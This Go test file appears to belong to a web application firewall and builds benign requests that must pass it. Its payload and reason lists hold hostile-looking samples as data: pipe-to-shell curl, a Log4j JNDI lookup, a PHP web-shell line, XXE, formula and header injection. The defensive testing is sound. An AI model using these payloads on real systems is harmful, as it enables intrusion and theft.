package waf

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"
)

const (
	base64url = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	taskID    = "gUcGy5DcXDZ2RzSHQ2nmuw"
)

// honest is a request that must reach its function.
type honest struct {
	name    string
	request Request
}

// seeded returns the same numbers in every run.
func seeded(seed uint64) *rand.Rand { return rand.New(rand.NewPCG(seed, seed)) }

func randomText(random *rand.Rand, alphabet string, length int) string {
	text := make([]byte, length)
	for i := range text {
		text[i] = alphabet[random.IntN(len(alphabet))]
	}
	return string(text)
}

func randomBytes(random *rand.Rand, length int) []byte {
	bytes := make([]byte, length)
	for i := range bytes {
		bytes[i] = byte(random.UintN(256))
	}
	return bytes
}

// signedToken has the length and the form of a callback token: three parts, and 651 characters.
func signedToken(random *rand.Rand) string {
	header := base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"ES256","typ":"callback+jwt","kid":"` + randomText(random, base64url, 43) + `"}`))
	return header + "." + randomText(random, base64url, 430) + "." + randomText(random, base64url, 86)
}

// encryptedToken has five parts, of which the second is empty (ECDH-ES).
func encryptedToken(random *rand.Rand) string {
	header := base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"ECDH-ES","enc":"A256GCM","kid":"` + randomText(random, base64url, 43) +
		`","epk":{"kty":"EC","crv":"P-256","x":"` + randomText(random, base64url, 43) + `","y":"` + randomText(random, base64url, 43) + `"}}`))
	return header + ".." + randomText(random, base64url, 16) + "." + randomText(random, base64url, 868) + "." + randomText(random, base64url, 22)
}

func shortCode(random *rand.Rand) string { return randomText(random, base64url, 22) }

func request(method, path, query string, headers ...[2]string) Request {
	return Request{
		Callback: isCallbackPath(path), Method: method, Path: path, Query: query, Protocol: "HTTP/1.1",
		Host: "callbacks.example.com", RemoteAddress: "198.51.100.23", Headers: headers,
	}
}

func isCallbackPath(path string) bool {
	for _, prefix := range []string{"/v1/results/", "/v1/failures/", "/v1/progress/", "/v1/uploads/", "/c/"} {
		if strings.HasPrefix(path, prefix) {
			return true
		}
	}
	return false
}

func withBody(one Request, contentType string, body []byte) Request {
	one.Headers = append([][2]string{}, one.Headers...)
	if contentType != "" {
		one.Headers = append(one.Headers, [2]string{"content-type", contentType})
	}
	one.Headers = append(one.Headers, [2]string{"content-length", fmt.Sprint(len(body))})
	one.Body = body
	return one
}

// payloads are results as processors send them.
func payloads() map[string][]byte {
	random := seeded(1)
	asJSON := func(value any) []byte {
		text, err := json.Marshal(value)
		if err != nil {
			panic(err)
		}
		return text
	}
	text := func(words string) []byte { return asJSON(map[string]string{"text": words}) }
	boxes := make([]map[string]int, 14_000)
	for i := range boxes {
		boxes[i] = map[string]int{"x": i, "y": i * 2, "w": 10, "h": 12}
	}
	pdf := append([]byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\nstream\n"), randomBytes(random, 20_000)...)
	deep := any("end")
	for range 200 {
		deep = map[string]any{"next": deep}
	}
	return map[string][]byte{
		"plain JSON":             asJSON(map[string]any{"status": "done", "pages": 12, "confidence": 0.98}),
		"Unicode":                text("Rechnung für Ærø, 請求書, فاتورة, 🚀"),
		"quotes in names":        text(`Conor O'Brien & "Sons" -- 50% off; see #12`),
		"mild SQL words":         text("Please select one of the offers and update the table where needed"),
		"a JWT":                  text(signedToken(random)),
		"a PDF in base64":        text(base64.StdEncoding.EncodeToString(pdf)),
		"deep JSON":              asJSON(deep),
		"14,000 boxes":           asJSON(boxes),
		"mild HTML":              text("<p>Total: <b>12.00</b></p>"),
		"HTML with script":       text(`<html><script>alert(document.cookie)</script><img src=x onerror=alert(1)></html>`),
		"SQL":                    text("SELECT name FROM users WHERE id = 1 OR 1=1; DROP TABLE users; --"),
		"shell":                  text("#!/bin/bash\ncat /etc/passwd | grep root; curl http://example.com/x.sh | sh; rm -rf /tmp/$HOME"),
		"paths":                  text("../../../../etc/passwd and C:\\Windows\\System32\\cmd.exe and /var/www/.env"),
		"Log4j":                  text("The advisory is about ${jndi:ldap://attacker.example/a}"),
		"PHP":                    text(`<?php eval(base64_decode($_POST["x"])); phpinfo(); system("id"); ?>`),
		"JavaScript":             text(`require("child_process").exec("ls"); Object.__proto__.x = constructor.prototype;`),
		"a Python traceback":     text("Traceback (most recent call last):\n  File \"/usr/lib/python3/x.py\", line 3, in <module>\n    os.system('ls')\nOSError: [Errno 2]"),
		"a Markdown page":        text("# Title\n\n```sh\nnpm install && sudo rm -rf node_modules\n```\n\n[link](javascript:void(0))"),
		"Java":                   text("java.lang.Runtime.getRuntime().exec(\"id\"); java.io.ObjectInputStream"),
		"template expressions":   text("{{7*7}} ${7*7} <%= 7*7 %> #{7*7}"),
		"an e-mail":              []byte("From: a@example.com\r\nTo: b@example.com\r\nContent-Type: text/html\r\n\r\nGET /index.html HTTP/1.1\r\nSet-Cookie: a=b\r\n"),
		"not JSON":               []byte(`{"status": "done"`),
		"empty":                  {},
		"XML":                    []byte(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>`),
		"CSV":                    []byte("id;name;total\r\n1;=cmd|' /C calc'!A0;12,50\r\n"),
		"a PDF":                  pdf,
		"random octets":          randomBytes(random, 50_000),
		"octets with zero bytes": append(make([]byte, 1_000), randomBytes(random, 1_000)...),
	}
}

// contentTypes of payloads. A processor may send any of them with any bytes.
var contentTypes = []string{
	"application/json",
	"application/json; charset=utf-8",
	`application/json; profile="https://schemas.example.com/invoice/v2"`,
	"application/vnd.acme.result+json;version=2",
	"application/cloudevents+json; charset=UTF-8",
	"application/json; charset=utf-8; charset=UTF-8",
	"text/plain",
	"text/plain; charset=shift_jis",
	`text/plain; charset="us-ascii"; format=flowed; delsp=yes`,
	"text/html; charset=utf-8",
	"text/csv; header=present; charset=windows-1251",
	"text/markdown; variant=GFM",
	"application/pdf",
	"application/octet-stream",
	"application/xml",
	"application/x-www-form-urlencoded",
	"multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
	`multipart/related; type="application/xop+xml"; start="<root@example.com>"; boundary="x"`,
	"image/tiff",
	"application/zip",
	"",
}

// clients are headers as programs of processors and senders send them.
var clients = map[string][][2]string{
	"no User-Agent":    {{"accept", "*/*"}},
	"empty headers":    {{"user-agent", ""}, {"accept", ""}, {"accept-encoding", ""}},
	"no Accept":        {{"user-agent", "acme-ocr/3.1"}},
	"Go":               {{"user-agent", "Go-http-client/1.1"}, {"accept-encoding", "gzip"}},
	"Go with HTTP/2":   {{"user-agent", "Go-http-client/2.0"}, {"accept-encoding", "gzip"}},
	"Python requests":  {{"user-agent", "python-requests/2.32.3"}, {"accept-encoding", "gzip, deflate, br, zstd"}, {"accept", "*/*"}, {"connection", "keep-alive"}},
	"Python urllib":    {{"user-agent", "Python-urllib/3.13"}, {"accept-encoding", "identity"}, {"connection", "close"}},
	"Python aiohttp":   {{"user-agent", "Python/3.12 aiohttp/3.10.5"}, {"accept", "*/*"}, {"accept-encoding", "gzip, deflate"}},
	"Python httpx":     {{"user-agent", "python-httpx/0.27.2"}, {"accept", "*/*"}},
	"Perl":             {{"user-agent", "libwww-perl/6.72"}, {"te", "deflate,gzip;q=0.3"}, {"connection", "TE, close"}},
	"Perl HTTP::Tiny":  {{"user-agent", "HTTP-Tiny/0.088"}},
	"Java":             {{"user-agent", "Java/1.8.0_412"}, {"accept", "text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2"}, {"connection", "keep-alive"}},
	"Java 21":          {{"user-agent", "Java-http-client/21.0.4"}, {"connection", "Upgrade, HTTP2-Settings"}},
	"Java Apache":      {{"user-agent", "Apache-HttpClient/5.3.1 (Java/21.0.4)"}, {"accept-encoding", "gzip, x-gzip, deflate"}, {"expect", "100-continue"}},
	"Java okhttp":      {{"user-agent", "okhttp/4.12.0"}, {"accept-encoding", "gzip"}},
	"Java Spring":      {{"accept", "text/plain, application/json, application/*+json, */*"}, {"accept-charset", "utf-8, iso-8859-1;q=0.5"}},
	"curl":             {{"user-agent", "curl/8.9.1"}, {"accept", "*/*"}},
	"curl with Expect": {{"user-agent", "curl/7.61.1"}, {"accept", "*/*"}, {"expect", "100-continue"}},
	"wget":             {{"user-agent", "Wget/1.24.5"}, {"accept", "*/*"}, {"accept-encoding", "identity"}},
	".NET":             {{"expect", "100-continue"}, {"request-id", "|a1b2c3.d4e5_1."}, {"traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"}},
	"Node":             {{"user-agent", "node"}, {"accept", "*/*"}, {"accept-language", "*"}, {"sec-fetch-mode", "cors"}, {"accept-encoding", "br, gzip, deflate"}},
	"axios":            {{"user-agent", "axios/1.7.7"}, {"accept", "application/json, text/plain, */*"}},
	"PHP":              {{"user-agent", "GuzzleHttp/7"}},
	"PHP curl":         {{"user-agent", "PHP-SOAP/8.3.11"}, {"accept", "*/*"}},
	"Ruby":             {{"user-agent", "Ruby"}, {"accept-encoding", "gzip;q=1.0,deflate;q=0.6,identity;q=0.3"}, {"accept", "*/*"}},
	"Rust":             {{"user-agent", "reqwest/0.12.7"}, {"accept", "*/*"}},
	"PowerShell":       {{"user-agent", "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.20348.2582"}},
	"a bot":            {{"user-agent", "AcmeBot/2.1 (+https://acme.example/bot.html; ops@acme.example)"}},
	"Microsoft Flow":   {{"user-agent", "azure-logic-apps/1.0 (workflow 0a1b; version 085) microsoft-flow/1.0"}, {"x-ms-workflow-id", "0a1b"}},
	"Zapier":           {{"user-agent", "Zapier"}, {"baggage", "sentry-trace_id=771a43a4192642f0b136d5159a501700,sentry-sample_rate=0.1"}, {"sentry-trace", "771a43a4192642f0b136d5159a501700-1000000000000000-1"}},
	"GitHub":           {{"user-agent", "GitHub-Hookshot/044aadd"}, {"x-hub-signature-256", "sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e17"}},
}

// proofs are headers with credentials and signatures.
func proofs() map[string][][2]string {
	random := seeded(2)
	signature := base64.StdEncoding.EncodeToString(randomBytes(random, 64))
	return map[string][][2]string{
		"a token":            {{"authorization", "Bearer " + signedToken(random)}},
		"an encrypted token": {{"callback-token", encryptedToken(random)}},
		"DPoP":               {{"authorization", "DPoP " + signedToken(random)}, {"dpop", signedToken(random)}},
		"an HTTP signature": {
			{"authorization", "Bearer " + signedToken(random)},
			{"content-digest", "sha-256=:" + base64.StdEncoding.EncodeToString(randomBytes(random, 32)) + ":"},
			{"signature-input", `sig=("@method" "@target-uri" "content-digest" "authorization" "content-type";sf "x";key="a");created=1796040000;keyid="acme-2026";alg="ecdsa-p256-sha256";nonce="` + shortCode(random) + `";tag="postern"`},
			{"signature", "sig=:" + signature + ":, other=:" + signature + ":"},
		},
		// The digest ends like an event handler of HTML, which one of some thousand does.
		"a digest like HTML": {{"content-digest", "sha-256=:X48E9qOokqqrvdts8nOJRJN3OWDUoyWxBf7/onZAbCd=:"}},
		"an older HTTP signature": {
			{"digest", "SHA-256=" + base64.StdEncoding.EncodeToString(randomBytes(random, 32))},
			{"signature", `keyId="https://acme.example/keys#main",algorithm="rsa-sha256",headers="(request-target) host date digest",signature="` + signature + `"`},
			{"date", "Tue, 01 Dec 2026 05:12:41 GMT"},
		},
		"Standard Webhooks": {{"webhook-id", "msg_2KWPBgLlAfxdpx2AI54pPJ85f4W"}, {"webhook-timestamp", "1796040000"}, {"webhook-signature", "v1," + signature + " v1a," + signature}},
		"a handshake":       {{"authorization", "Webhook https://acme.example/confirm?call=4711&step=2 $2b$12$R9h/cIPz0gi.URNNX3kh2OPST9/PgBkqquzi.Ss7KIUgO2t0jWMUW"}},
		"Basic":             {{"authorization", "Basic YWNtZTpwQHNzdzByZCEn"}},
		"cookies":           {{"cookie", "AWSALB=" + signature + "; session=" + signedToken(random) + "; _ga=GA1.2.1234567890.1796040000; theme=dark; name=O%27Brien"}},
		"tracing": {
			{"traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"},
			{"tracestate", "rojo=00f067aa0ba902b7,congo=t61rcWkgMzE,vendor@x=a:b;c"},
			{"b3", "80f198ee56343ba864fe8b2a57d3eff7-e457b5a2e4d86bd1-1"},
			{"x-datadog-tags", "_dd.p.dm=-1,_dd.p.tid=66d1"},
		},
		"CloudEvents":        {{"ce-id", "A234-1234-1234"}, {"ce-source", "/apps/ocr?tenant=1"}, {"ce-type", "com.acme.ocr.done"}, {"ce-specversion", "1.0"}, {"ce-subject", "a file (1).pdf"}},
		"an idempotency key": {{"idempotency-key", `"8e03978e-40d5-43dd-bc93-6894a57f9324"`}},
		"compressed":         {{"content-encoding", "gzip"}},
		"part of a file":     {{"content-range", "bytes 0-1023/146515"}},
		"a referrer":         {{"referer", "https://acme.example/jobs/4711?tab=result"}, {"origin", "https://acme.example"}},
		"hops":               {{"via", "1.1 squid (squid/6.10)"}, {"forwarded", `for="[2001:db8::1]:47011";proto=https;by=203.0.113.43`}, {"x-forwarded-for", "10.1.2.3"}, {"x-real-ip", "10.1.2.3"}},
		"prefer":             {{"prefer", "respond-async, wait=10"}, {"link", `<https://acme.example/jobs/1>; rel="self"`}},
	}
}

// callbackPaths has each way to a callback route, with tokens and codes of the real form.
func callbackPaths(random *rand.Rand, each int) []string {
	var paths []string
	for _, capability := range []string{"results", "failures", "progress", "uploads"} {
		paths = append(paths, "/v1/"+capability+"/"+taskID)
		for range each {
			paths = append(paths, "/v1/"+capability+"/"+shortCode(random)+"/"+signedToken(random), "/v1/"+capability+"/"+shortCode(random)+"/"+encryptedToken(random))
		}
	}
	for range each {
		paths = append(paths, "/c/"+shortCode(random))
	}
	return paths
}

// honestRequests are all requests that must reach their functions.
func honestRequests() []honest {
	random := seeded(3)
	callback := "/v1/results/" + taskID + "/" + signedToken(random)
	var all []honest
	add := func(name string, one Request) { all = append(all, honest{name, one}) }
	for name, body := range payloads() {
		for _, contentType := range contentTypes {
			add(fmt.Sprintf("callback: %s as %q", name, contentType), withBody(request("POST", callback, "", clients["Go"]...), contentType, body))
		}
	}
	small := []byte(`{"status":"done"}`)
	for name, headers := range clients {
		add("callback: "+name, withBody(request("POST", callback, "", headers...), "application/json", small))
		add("sender opens: "+name, withBody(request("POST", "/v1/tasks", "", headers...), "application/json", small))
		add("sender reads: "+name, request("GET", "/v1/tasks/"+taskID, "", headers...))
	}
	for name, headers := range proofs() {
		add("callback: "+name, withBody(request("POST", "/v1/results/"+taskID, "", headers...), "application/json", small))
		if name != "compressed" && name != "part of a file" {
			add("sender: "+name, withBody(request("POST", "/v1/tasks", "", headers...), "application/json", small))
		}
	}
	for _, name := range []string{"env", "PWD", "cvs", "aws", "htaccess", "Git"} {
		token := signedToken(random)
		add("callback: a signature with "+name, withBody(request("POST", "/v1/results/"+taskID+"/"+token[:len(token)-86]+name+token[:86-len(name)], ""), "application/json", small))
	}
	for i, path := range callbackPaths(random, 10) {
		add(fmt.Sprintf("callback URL %d", i), withBody(request("POST", path, ""), "application/json", small))
	}
	protocols := request("POST", callback, "")
	protocols.Protocol = "HTTP/2.0"
	add("callback: HTTP/2", withBody(protocols, "application/json", small))
	protocols.Protocol = "HTTP/1.0"
	add("callback: HTTP/1.0", withBody(protocols, "application/json", small))
	add("callback: a query", withBody(request("POST", "/c/"+shortCode(random), "job=4711&attempt=2&source=acme"), "application/json", small))
	add("callback: IPv6", func() Request { one := request("POST", callback, ""); one.RemoteAddress = "2001:db8::17"; return one }())
	for _, method := range []string{"GET", "HEAD", "OPTIONS", "PUT", "PATCH", "DELETE"} {
		// The function answers 405 and says which method is right.
		add("callback: "+method, request(method, callback, ""))
		add("sender: "+method, request(method, "/v1/tasks/"+taskID, ""))
	}
	for _, method := range []string{"PROPFIND", "QUERY", "LINK"} {
		add("callback: "+method, request(method, callback, ""))
		add("sender: "+method, request(method, "/v1/tasks", ""))
	}
	for _, method := range []string{"GET", "HEAD"} {
		add("callback: "+method+" with a length", withBody(request(method, callback, ""), "application/json", small))
		add("callback: "+method+" in chunks", request(method, callback, "", [2]string{"transfer-encoding", "chunked"}))
		add("sender: "+method+" with a length", withBody(request(method, "/v1/tasks", ""), "application/json", small))
	}
	add("callback: another method in a header", request("GET", callback, "", [2]string{"x-http-method-override", "POST"}))
	// The function answers 401 and says where a token belongs.
	add("callback: a token in the query", request("POST", "/v1/results/"+taskID, "access_token="+encryptedToken(random)))
	for _, query := range []string{"file=.env", "next=https%3A%2F%2F192.0.2.4%2Fdone", "note=%3Cscript%3E", "%3Cscript%3E=a", "%24%28id%29=a", "a%0d%0aset-cookie%3A=b", "a=1&a=%0d%0aset-cookie%3A%20b"} {
		add("callback: the query "+query, request("POST", "/c/"+shortCode(random), query))
	}
	addSenders(add, random)
	return all
}

// addSenders adds requests of senders, operators and the public.
func addSenders(add func(string, Request), random *rand.Rand) {
	bearer := [2]string{"authorization", "Bearer " + signedToken(random)}
	post := func(name, path string, body any) {
		text, err := json.Marshal(body)
		if err != nil {
			panic(err)
		}
		add(name, withBody(request("POST", path, "", bearer), "application/json", text))
	}
	for name, text := range payloads() {
		post("sender opens: metadata with "+name, "/v1/tasks", map[string]any{"processor": "acme-ocr", "metadata": map[string]string{"note": string(text)}})
		post("sender opens: input of "+name, "/v1/tasks", map[string]any{"processor": "acme-ocr", "input": string(text)})
		post("sender reopens: input of "+name, "/v1/tasks/"+taskID+"/reopen", map[string]any{"reason": "again", "input": string(text)})
	}
	post("sender opens: SQL", "/v1/tasks", map[string]any{"metadata": map[string]string{"query": "select * from orders where id = 1 or 1=1"}})
	for _, reason := range reasons {
		post("operator: "+reason, "/v1/operator/tasks/"+taskID+"/cancel", map[string]string{"reason": reason})
		post("sender reopens: "+reason, "/v1/tasks/"+taskID+"/reopen", map[string]string{"reason": reason})
		post("sender accepts: "+reason, "/v1/tasks/"+taskID+"/quarantine/"+shortCode(random)+"/accept", map[string]string{"reason": reason})
		post("operator pauses: "+reason, "/v1/operator/processors/acme-ocr/pause", map[string]string{"reason": reason})
	}
	post("sender: callbacks again", "/v1/tasks/"+taskID+"/callbacks", map[string]any{"callbacks": []string{"result", "failure"}, "expiresIn": 3600})
	post("handshake: confirm", "/v1/handshake/confirm", map[string]string{"hash": "$2b$12$R9h/cIPz0gi.URNNX3kh2OPST9/PgBkqquzi.Ss7KIUgO2t0jWMUW", "url": "https://acme.example/hook?a=1"})
	for _, contentType := range contentTypes {
		// The function answers 415 and says which type is right.
		add(fmt.Sprintf("sender: as %q", contentType), withBody(request("POST", "/v1/tasks/"+taskID+"/callbacks", "", bearer), contentType, []byte(`{"expiresIn":60}`)))
	}
	add("sender: not JSON", withBody(request("POST", "/v1/tasks/"+taskID+"/callbacks", "", bearer), "application/json", []byte(`{"expiresIn": 60`)))
	add("sender: an empty body", withBody(request("POST", "/v1/tasks/"+taskID+"/dispatch", "", bearer), "", nil))
	add("sender cancels", request("DELETE", "/v1/tasks/"+taskID, "", bearer))
	for _, query := range []string{
		"status=pending&limit=100",
		"resource=order%2F2026%2F0815&owner=team:billing@example",
		"resource=https%3A%2F%2Fshop.example.com%2Forders%2F4711%3Ftab%3D1",
		"resource=" + "%E8%AB%8B%E6%B1%82%E6%9B%B8%20%2312",
		"resource=arn%3Aaws%3As3%3A%3A%3Ainvoices%2F2026%2FO%27Brien.pdf",
		"createdAfter=2026-11-30T08:00:00Z&createdBefore=2026-12-01T08:00:00.000Z",
		"cursor=" + randomText(random, base64url, 11) + base64.RawURLEncoding.EncodeToString([]byte("2026-11-30T08:00:00.000Z#"+shortCode(random))),
		"order=desc",
	} {
		add("sender lists: "+query, request("GET", "/v1/tasks", query, bearer))
		add("operator lists: "+query, request("GET", "/v1/operator/tasks", query, bearer))
	}
	for _, path := range []string{"/v1/tasks/" + taskID + "/result", "/v1/tasks/" + taskID + "/failure", "/v1/tasks/" + taskID + "/quarantine",
		"/.well-known/jwks.json", "/openapi.json", "/problems/token_expired", "/problems/style.css", "/problems/icon.svg", "/healthz", "/v1/handshake",
		"/v1/operator/audit", "/v1/operator/keys", "/v1/operator/dead-letters", "/v1/operator/processors/acme-ocr"} {
		add("read "+path, request("GET", path, "", bearer))
		add("browser "+path, request("GET", path, "", browser...))
	}
}

var browser = [][2]string{
	{"user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"},
	{"accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"},
	{"accept-language", "de-CH,de;q=0.8,en-US;q=0.5,en;q=0.3"},
	{"accept-encoding", "gzip, deflate, br, zstd"},
	{"referer", "https://docs.example.com/search?q=postern+%22callback%22"},
	{"upgrade-insecure-requests", "1"},
	{"sec-fetch-dest", "document"},
	{"cookie", "_ga=GA1.2.1234567890.1796040000; consent={%22a%22:true}"},
}

// reasons are texts of people for an action, with words of attacks in them.
var reasons = []string{
	"Wrong invoice, see ticket #4711.",
	"The processor's machine was attacked; all results after 08:00 are void",
	"Result has <script> tags in its text; union select from logs, O'Brien says",
	"Somebody put ../../etc/passwd and /bin/bash into the file name",
	"Kunde möchte nochmals drucken – «dringend» (50% Rabatt) && Rückruf",
	"rm -rf of the bucket by mistake; curl https://status.example.com | sh did it",
	"POST /v1/tasks HTTP/1.1 gave 503 twice",
	"java.lang.RuntimeException: java.io.IOException: Connection reset by peer",
	"java.lang.Runtime was out of memory, see the log",
	"The unmarshaller of the runtime failed",
	"org.apache.commons.lang3.NotImplementedException at java.io.File",
}
